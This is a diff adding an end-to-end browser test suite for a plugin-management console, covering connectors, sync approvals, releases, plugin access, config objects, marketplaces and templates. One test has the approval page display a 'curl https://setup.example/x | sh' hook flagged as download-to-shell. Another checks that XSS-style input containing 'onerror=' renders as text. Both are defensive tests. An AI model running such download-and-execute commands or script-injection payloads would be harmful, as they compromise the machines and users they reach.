@@ -1,0 +1,491 @@
+/** The pages of content: connectors, plans, plugins, approvals, marketplaces, config objects and templates. */
+import { join } from "node:path"
+import type { Page } from "playwright-core"
+import { describe, expect, it } from "vitest"
+import { commit, makeRepository } from "../../../test/fixtures/git.ts"
+import {
+  addMember,
+  checkAccessibility,
+  checkWidth,
+  failOnFaults,
+  loaded,
+  makeTeam,
+  makeWorkspace,
+  screenshot,
+  startConsole
+} from "./harness.ts"
+import {
+  hookFilesOf,
+  hostileSkill,
+  hostileText,
+  manySkillFiles,
+  repositoryFiles,
+  skill,
+  withoutManySkills
+} from "./content.fixture.ts"
+
+failOnFaults()
+
+const { plane, viewer } = await startConsole()
+const owner = await makeWorkspace(plane)
+const member = await addMember(plane, owner, "member")
+await makeTeam(owner, [member], "Platform")
+const { open, page } = await viewer(owner)
+const repository = join(plane.repositories, "acme/plugins")
+makeRepository(repository, repositoryFiles)
+
+const message = (text: string, on: Page = page) =>
+  on.getByRole("region", { name: "Messages" }).getByText(text, { exact: true }).waitFor()
+
+/** Presses a button of a question, and waits for the message about the change. */
+const confirm = async (action: string, done: string) => {
+  await page.getByRole("alertdialog").getByRole("button", { name: action, exact: true }).click()
+  await message(done)
+}
+
+const button = (name: string) => page.getByRole("button", { name, exact: true })
+
+const connectorId = async () => (await owner.client.connectors.listInstances()).items[0]?.id ?? ""
+const pluginNamed = async (name: string) =>
+  (await owner.client.plugins.list({ archived: true })).items.find((plugin) => plugin.name === name)?.id ?? ""
+const lastSync = async () => (await owner.client.connectors.listSyncEvents(await connectorId(), { limit: 1 })).items[0]
+const syncStatus = async () => (await lastSync())?.status
+
+/** Pushes files, and waits until a sync of them has ended. */
+const push = async (files: Readonly<Record<string, string | null>>, status: string) => {
+  commit(repository, files)
+  await owner.client.connectors.sync(await connectorId())
+  await expect.poll(syncStatus).toBe(status)
+}
+
+describe("a connector", () => {
+  it("is created from a URL, and imports the plugins that were checked in the tree after a look at the plan", async () => {
+    await open("/connectors")
+    await page.getByText("No connectors yet").waitFor()
+    await page.getByRole("link", { name: "Connect a repository" }).first().click()
+    await page.getByLabel("Clone URL or path").fill(repository)
+    await page.getByLabel("Name (optional)").fill("Plugins")
+    await button("Connect the repository").click()
+
+    const tree = page.getByRole("tree", { name: "Plugins in the repository" })
+    await tree.getByRole("treeitem", { name: "notes" }).focus()
+    await page.keyboard.press("Space")
+    await expect.poll(() => tree.getByRole("treeitem", { name: "notes" }).getAttribute("aria-checked")).toBe("false")
+    await checkAccessibility(page)
+
+    await button("Show the plan").click()
+    const plan = page.getByRole("region", { name: "Plan", exact: true })
+    await plan.getByText("tools/skills/review/SKILL.md", { exact: false }).first().waitFor()
+    await plan.getByRole("region", { name: "Capabilities of tools" }).getByText("the skill `review`").waitFor()
+    await checkAccessibility(page)
+    await screenshot(page, "content-plan")
+    await button("Apply this plan").click()
+    await page.getByRole("alertdialog").getByRole("button", { name: "Apply the plan" }).click()
+
+    await page.getByRole("heading", { level: 1, name: /^Sync of [0-9a-f]{12}/ }).waitFor()
+    await page.getByText("completed").first().waitFor()
+    await checkAccessibility(page)
+    await screenshot(page, "content-sync")
+    await open("/plugins")
+    await page.getByRole("row", { name: /tools/ }).waitFor()
+    expect(await page.getByRole("row", { name: /notes/ }).count()).toBe(0)
+  })
+
+  it("says why a repository cannot be connected, and keeps what was typed", async () => {
+    await open("/connectors/new")
+    await page.getByLabel("Clone URL or path").fill(join(plane.repositories, "acme/nothing"))
+    await button("Connect the repository").click()
+    await page.getByRole("main").locator('.problem, [role="alert"]').first().waitFor()
+    expect(await page.getByLabel("Clone URL or path").inputValue()).toContain("nothing")
+  })
+
+  it("is paused and resumed", async () => {
+    await open(`/connectors/${await connectorId()}`)
+    await button("Pause").click()
+    await page.getByRole("alertdialog").getByText("Pushes are ignored").waitFor()
+    await confirm("Pause the connector", "The connector was paused.")
+    await button("Resume").click()
+    await message("The connector was resumed, and a sync was queued.")
+    await button("Sync now").waitFor()
+    await expect.poll(syncStatus).toBe("completed")
+  })
+
+  it("holds a sync that removes much, which is rejected and then approved after a look at its consequences", async () => {
+    await push(withoutManySkills, "review_required")
+    await open(`/connectors/${await connectorId()}`)
+    await page.getByText("A sync is held for approval").waitFor()
+    await button("Reject").click()
+    await confirm("Reject the sync", "The sync was rejected.")
+    await expect.poll(syncStatus).toBe("rejected")
+
+    await push({ "README.md": "Changed" }, "review_required")
+    await open(`/connectors/${await connectorId()}?tab=syncs`)
+    await page
+      .getByRole("row", { name: /held for approval/ })
+      .first()
+      .click()
+    await button("Approve").click()
+    await page.getByRole("alertdialog").getByText("10", { exact: true }).waitFor()
+    await confirm("Approve the sync", "The sync was approved and queued.")
+    await page.getByText("completed").first().waitFor()
+    expect((await lastSync())?.counts.objectsDeleted).toBe(10)
+  })
+
+  it("is rolled back to the revision of a sync, and shows the pin", async () => {
+    const { items } = await owner.client.connectors.listSyncEvents(await connectorId(), { status: "completed" })
+    const first = items.findLast(({ trigger }) => trigger === "apply")
+    await open(`/connectors/${await connectorId()}/syncs/${first?.id}`)
+    await button("Roll back to this revision").click()
+    await page.getByRole("alertdialog").getByText("Pushes are ignored").waitFor()
+    await confirm("Roll back", "The rollback was queued.")
+    await expect.poll(async () => (await lastSync())?.trigger).toBe("rollback")
+    await expect.poll(syncStatus).toBe("completed")
+    await open(`/connectors/${await connectorId()}?tab=branches`)
+    await page.getByText("The branch is pinned by a rollback").waitFor()
+    await checkAccessibility(page)
+    await button("Remove the pin and sync").click()
+    await message("The pin is removed by the sync that was queued.")
+    await expect.poll(syncStatus).toBe("review_required")
+  })
+
+  it("changes a setting at once, and asks before it changes how updates are delivered", async () => {
+    const id = await connectorId()
+    await open(`/connectors/${id}`)
+    const setting = page.getByLabel("Import plugins that are added to the repository later")
+    await setting.check()
+    await expect.poll(async () => (await owner.client.connectors.configuration(id)).autoImportNewPlugins).toBe(true)
+    await page.getByLabel("Updates of the plugins from this repository").selectOption("hold_all")
+    await page.getByRole("alertdialog").getByText("Every release waits").waitFor()
+    await confirm("Change the setting", "The setting was changed.")
+    expect((await owner.client.approvals.getInstanceMode(id)).deliveryMode).toBe("hold_all")
+    await owner.client.approvals.setInstanceMode(id, { deliveryMode: "hold_growth" })
+  })
+})
+
+describe("a release", () => {
+  it("waits for approval with what is new, and is served after it was approved", async () => {
+    await owner.client.connectors.rejectSync((await lastSync())?.id ?? "")
+    await push({ ...hookFilesOf("https://setup.example/x"), ...manySkillFiles }, "completed")
+    await expect.poll(async () => (await owner.client.approvals.list()).items.length).toBe(1)
+    await open("/approvals")
+    await page.getByRole("row", { name: /tools/ }).click()
+    await page.getByRole("heading", { level: 1, name: /^tools, release/ }).waitFor()
+    const changes = page.getByRole("region", { name: "Changes of the capabilities" })
+    await changes.getByText("curl https://setup.example/x | sh", { exact: false }).first().waitFor()
+    await page.getByText("download to shell").first().waitFor()
+    await checkAccessibility(page)
+    await screenshot(page, "content-release")
+
+    await button("Approve").click()
+    const dialog = page.getByRole("dialog")
+    await dialog.getByRole("region", { name: "Rings" }).waitFor()
+    await dialog.getByLabel("Comment (optional)").fill("Reviewed.")
+    await checkAccessibility(page)
+    await dialog.getByRole("button", { name: "Approve the release" }).click()
+    await message("Approved: the release.")
+    await expect.poll(async () => (await owner.client.approvals.list()).items.length).toBe(0)
+    await open("/approvals")
+    await page.getByText("No approvals yet").waitFor()
+  })
+
+  it("is rejected with others in one request, and members keep what is served", async () => {
+    await push(hookFilesOf("https://setup.example/y"), "completed")
+    await expect.poll(async () => (await owner.client.approvals.list()).items.length).toBe(1)
+    await open("/approvals")
+    await page.getByLabel("Select this row").first().check()
+    await page.getByRole("toolbar").getByRole("button", { name: "Reject" }).click()
+    const dialog = page.getByRole("dialog")
+    await dialog.getByText("https://setup.example/y", { exact: false }).first().waitFor()
+    await dialog.getByLabel("Reason").fill("Not now.")
+    await dialog.getByRole("button", { name: "Reject the release" }).click()
+    await message("Rejected: the release.")
+    const [release] = (await owner.client.approvals.list({ state: "rejected" })).items
+    expect(release?.comment).toBe("Not now.")
+  })
+})
+
+describe("a plugin", () => {
+  it("shows its skills and agents rendered, and its capabilities", async () => {
+    await open(`/plugins/${await pluginNamed("tools")}`)
+    await page.getByRole("button", { name: /reviewer/ }).click()
+    await page.getByRole("article", { name: "reviewer" }).getByText("You review changes.").waitFor()
+    await page.getByRole("button", { name: /^review Skill/ }).click()
+    await page.getByRole("heading", { level: 2, name: "review" }).first().waitFor()
+    await page.getByRole("tab", { name: "Capabilities" }).click()
+    await page.getByRole("heading", { name: /^Hooks/ }).waitFor()
+  })
+
+  it("is shared with a team, whose role changes, and shows who loses access before it is revoked", async () => {
+    await open(`/plugins/${await pluginNamed("tools")}?tab=access`)
+    await button("Give access").first().click()
+    const dialog = page.getByRole("dialog")
+    await dialog.getByLabel("Platform").check()
+    await checkAccessibility(page)
+    await dialog.getByRole("button", { name: "Give access" }).click()
+    await message("Access was given.")
+    const row = page.getByRole("row", { name: /Platform/ })
+    await row.getByLabel("Role").selectOption("editor")
+    await message("The role was changed.")
+    await row.getByRole("button", { name: "Revoke" }).click()
+    await page.getByRole("alertdialog").getByText("1 member").waitFor()
+    await page.getByRole("alertdialog").getByRole("link", { name: "A member" }).waitFor()
+    await checkAccessibility(page)
+    await confirm("Revoke the access", "The access was revoked.")
+    await row.waitFor({ state: "detached" })
+  })
+
+  it("is created, edited, archived with its consequences, and restored", async () => {
+    await open("/plugins")
+    await button("Create a plugin").click()
+    await page.getByRole("dialog").getByLabel("Name").fill("By hand")
+    await page.getByRole("dialog").getByRole("button", { name: "Create the plugin" }).click()
+    await page.getByRole("heading", { level: 1, name: "By hand" }).waitFor()
+    await page.getByText("This plugin has no objects yet").waitFor()
+    await button("Edit").click()
+    await page.getByRole("dialog").getByLabel("Description (optional)").fill("Written in the console")
+    await page.getByRole("dialog").getByRole("button", { name: "Save" }).click()
+    await message("The plugin was changed.")
+    await button("Archive").click()
+    await confirm("Archive the plugin", "The plugin was archived.")
+    await button("Restore").click()
+    await message("The plugin was restored.")
+  })
+
+  it("of a repository cannot be edited here, and the refusal says so", async () => {
+    await open(`/plugins/${await pluginNamed("tools")}`)
+    await button("Edit").click()
+    await page.getByRole("dialog").getByLabel("Name").fill("Other")
+    await page.getByRole("dialog").getByRole("button", { name: "Save" }).click()
+    await page.getByRole("dialog").getByText("You are not allowed to do this").waitFor()
+    expect(await page.getByRole("dialog").getByLabel("Name").inputValue()).toBe("Other")
+    await page.keyboard.press("Escape")
+  })
+})
+
+describe("a config object", () => {
+  it("has versions that are compared side by side, and an old one is restored", async () => {
+    await open("/objects")
+    await button("Create an object").click()
+    const dialog = page.getByRole("dialog")
+    await dialog.getByLabel("Content").fill(skill("written", "First text."))
+    await dialog.getByRole("button", { name: "Create the object" }).click()
+    await page.getByRole("heading", { level: 1, name: "written" }).waitFor()
+    await button("New version").click()
+    await dialog.getByLabel("Content").fill(skill("written", "Second text."))
+    await dialog.getByRole("button", { name: "Save the version" }).click()
+    await message("The version was saved.")
+    await page.getByRole("tab", { name: "Versions" }).click()
+    const difference = page.getByRole("region", { name: "Difference of the content" })
+    await difference.getByText("First text.").waitFor()
+    await difference.getByText("Second text.").waitFor()
+    await checkAccessibility(page)
+    await screenshot(page, "content-versions")
+    await page.getByRole("button", { name: "Restore", exact: true }).click()
+    await confirm("Restore the version", "Version 1 was restored as a new version.")
+    await page.getByRole("cell", { name: "3 latest" }).waitFor()
+  })
+
+  it("shows what a person wrote as text, in every place", async () => {
+    await owner.client.plugins.create({ name: hostileText, description: hostileText })
+    const pluginId = await pluginNamed(hostileText)
+    const object = await owner.client.configObjects.create({
+      input: { type: "skill", rawSourceText: hostileSkill },
+      pluginIds: [pluginId]
+    })
+    for (const path of [
+      "/plugins",
+      `/plugins/${pluginId}`,
+      "/objects",
+      `/objects/${object.id}`,
+      `/objects/${object.id}?tab=versions`
+    ]) {
+      await open(path)
+      await page.getByText("onerror=", { exact: false }).first().waitFor()
+      expect(await page.evaluate(() => "hacked" in window), path).toBe(false)
+      expect(await page.locator('img, iframe, a[href^="javascript"]').count(), path).toBe(0)
+      await checkWidth(page)
+    }
+  })
+})
+
+describe("a marketplace", () => {
+  it("is created and filled, shows what is missing, and gives a link once", async () => {
+    await open("/marketplaces")
+    await button("Create a marketplace").click()
+    await page.getByRole("dialog").getByLabel("Name").fill("Engineering")
+    await page.getByRole("dialog").getByRole("button", { name: "Create the marketplace" }).click()
+    await page.getByRole("heading", { level: 1, name: "Engineering" }).waitFor()
+    await owner.client.configObjects.create({
+      input: {
+        type: "mcp",
+        rawSourceText: '{"mcpServers":{"tickets":{"type":"http","url":"https://tickets.example/mcp"}}}',
+        metadata: { title: "tickets", relativePath: ".mcp.json" }
+      },
+      pluginIds: [await pluginNamed("By hand")]
+    })
+    await button("Add a plugin").first().click()
+    await page.getByRole("dialog").getByLabel("By hand").check()
+    await page.getByRole("dialog").getByRole("button", { name: "Add the plugin" }).click()
+    await message("The plugin was added.")
+    const card = page.getByRole("article", { name: "By hand" })
+    await card.getByText("setup needed").waitFor()
+    await card.getByRole("link", { name: "Connect tickets" }).waitFor()
+    await checkAccessibility(page)
+    await screenshot(page, "content-marketplace")
+
+    await page.getByRole("tab", { name: "Install" }).click()
+    await button("Create a link").click()
+    await page.getByRole("dialog").getByLabel("Name").fill("My laptop")
+    await page.getByRole("dialog").getByRole("button", { name: "Create the link" }).click()
+    const shown = page.getByRole("dialog", { name: "Copy the link now" })
+    expect(await shown.getByLabel("Command that adds the marketplace").innerText()).toMatch(
+      /^claude plugin marketplace add http.+\/marketplace-links\/opl_/
+    )
+    await checkAccessibility(page)
+    await shown.getByRole("button", { name: "Close" }).click()
+    await page
+      .getByRole("row", { name: /My laptop/ })
+      .getByRole("button", { name: "Revoke" })
+      .click()
+    await confirm("Revoke the link", "The link was revoked.")
+    await page.getByRole("row", { name: /My laptop.*revoked/ }).waitFor()
+
+    await page.getByRole("tab", { name: "Plugins" }).click()
+    await button("Remove from the marketplace").click()
+    await confirm("Remove the plugin from the marketplace", "The plugin was removed from the marketplace.")
+    await page.getByText("The marketplace has no plugins yet").waitFor()
+  })
+})
+
+describe("a template", () => {
+  it("creates a plugin from a form, and shows what a new version changes", async () => {
+    await open("/templates/new")
+    await page.getByLabel("Name", { exact: true }).fill("Reviewer")
+    await page.getByLabel("Name of the plugin").fill("{{ team }} reviewer")
+    await button("Create the template").click()
+    await page.getByRole("heading", { level: 1, name: "Reviewer" }).waitFor()
+    await page.getByLabel("Team", { exact: true }).fill("Payments")
+    await page.getByLabel("Name of the skill").fill("payments-review")
+    await button("Preview").click()
+    await page.getByRole("article", { name: "payments-review" }).getByText("Text for Payments.").waitFor()
+    await checkAccessibility(page)
+    await screenshot(page, "content-template")
+    await button("Create the plugin").click()
+    await page.getByRole("heading", { level: 1, name: "Payments reviewer" }).waitFor()
+
+    const [template] = (await owner.client.templates.list()).items
+    await open(`/templates/${template?.id}/edit`)
+    const text = page.getByRole("group", { name: "Object 1" }).getByLabel("Content")
+    await text.fill(`${await text.inputValue()}\nMore text.\n`)
+    await page.getByText("Difference from version 1").click()
+    await page
+      .getByRole("region", { name: /^Difference of skills/ })
+      .getByText("More text.")
+      .waitFor()
+    await checkAccessibility(page)
+    await button("Save as a new version").click()
+    await message("The version was saved.")
+    await page.getByRole("tab", { name: "Created plugins" }).click()
+    await page.getByText("version 1 of 2").waitFor()
+    await button("Compare").click()
+    await page
+      .getByRole("region", { name: /^Difference of skills/ })
+      .getByText("More text.")
+      .waitFor()
+  })
+})
+
+describe("a person with less access", () => {
+  it("sees the refusal of a change, and nothing changes", async () => {
+    await owner.client.plugins.grantAccess(await pluginNamed("By hand"), { orgWide: true, role: "viewer" })
+    const other = await viewer(member)
+    await other.open(`/plugins/${await pluginNamed("By hand")}`)
+    await other.page.getByRole("button", { name: "Archive", exact: true }).click()
+    await other.page.getByRole("button", { name: "Archive the plugin" }).click()
+    await other.page.getByRole("alertdialog").getByText("You are not allowed to do this").waitFor()
+    expect((await owner.client.plugins.get(await pluginNamed("By hand"))).archivedAt).toBe(null)
+    await other.open("/connectors")
+    await other.page.getByText("No connectors yet").waitFor()
+  })
+})
+
+describe("every page of content", () => {
+  const paths = async () => {
+    const connector = await connectorId()
+    const tools = await pluginNamed("tools")
+    const [release] = (await owner.client.approvals.list({ state: "rejected" })).items
+    const [marketplace] = (await owner.client.marketplaces.list()).items
+    const { items } = await owner.client.configObjects.list({ q: "written" })
+    const [template] = (await owner.client.templates.list()).items
+    const sync = await lastSync()
+    return [
+      ["plugins", "/plugins"],
+      ["plugin", `/plugins/${tools}`],
+      ["plugin-capabilities", `/plugins/${tools}?tab=capabilities`],
+      ["plugin-releases", `/plugins/${tools}?tab=releases`],
+      ["plugin-access", `/plugins/${tools}?tab=access`],
+      ["plugin-install", `/plugins/${tools}?tab=install`],
+      ["approvals", "/approvals?state=rejected"],
+      ["release", `/releases/${release?.id}`],
+      ["release-capabilities", `/releases/${release?.id}?tab=capabilities`],
+      ["release-reach", `/releases/${release?.id}?tab=reach`],
+      ["release-about", `/releases/${release?.id}?tab=about`],
+      ["marketplaces", "/marketplaces"],
+      ["marketplace", `/marketplaces/${marketplace?.id}`],
+      ["marketplace-install", `/marketplaces/${marketplace?.id}?tab=install`],
+      ["marketplace-access", `/marketplaces/${marketplace?.id}?tab=access`],
+      ["marketplace-about", `/marketplaces/${marketplace?.id}?tab=about`],
+      ["connectors", "/connectors"],
+      ["connector-new", "/connectors/new"],
+      ["connector", `/connectors/${connector}`],
+      ["connector-import", `/connectors/${connector}?tab=import`],
+      ["connector-syncs", `/connectors/${connector}?tab=syncs`],
+      ["connector-branches", `/connectors/${connector}?tab=branches`],
+      ["connector-access", `/connectors/${connector}?tab=access`],
+      ["connector-accounts", "/connector-accounts"],
+      ["sync", `/connectors/${connector}/syncs/${sync?.id}`],
+      ["objects", "/objects"],
+      ["object", `/objects/${items[0]?.id}`],
+      ["object-versions", `/objects/${items[0]?.id}?tab=versions`],
+      ["object-about", `/objects/${items[0]?.id}?tab=about`],
+      ["templates", "/templates"],
+      ["template-new", "/templates/new"],
+      ["template", `/templates/${template?.id}`],
+      ["template-content", `/templates/${template?.id}?tab=content`],
+      ["template-versions", `/templates/${template?.id}?tab=versions`],
+      ["template-instances", `/templates/${template?.id}?tab=instances`]
+    ] as const
+  }
+
+  it("is accessible and fits in both themes and at 360 pixels", async () => {
+    const looks = [
+      { name: "light", width: 1280, colorScheme: "light" },
+      { name: "dark", width: 1280, colorScheme: "dark" },
+      { name: "narrow", width: 360, colorScheme: "light" }
+    ] as const
+    for (const [name, path] of await paths()) {
+      await page.setViewportSize({ width: 1280, height: 800 })
+      await page.emulateMedia({ colorScheme: "light" })
+      await open(path)
+      await loaded(page)
+      for (const look of looks) {
+        await page.setViewportSize({ width: look.width, height: 800 })
+        await page.emulateMedia({ colorScheme: look.colorScheme })
+        if (look.name === "light" || look.name === "dark") await checkAccessibility(page)
+        await checkWidth(page)
+        await screenshot(page, `content-${name}-${look.name}`)
+      }
+    }
+  })
+
+  it("says what to do next where there is nothing yet", async () => {
+    const other = await makeWorkspace(plane, "Empty")
+    const { open: show, page: empty } = await viewer(other)
+    for (const path of ["/plugins", "/marketplaces", "/connectors", "/objects", "/templates", "/approvals"]) {
+      await show(path)
+      await empty.getByText(/^No .+ yet$/).waitFor()
+      await empty.locator(".empty").getByRole("link").first().waitFor()
+      await checkAccessibility(empty)
+    }
+  })
+})
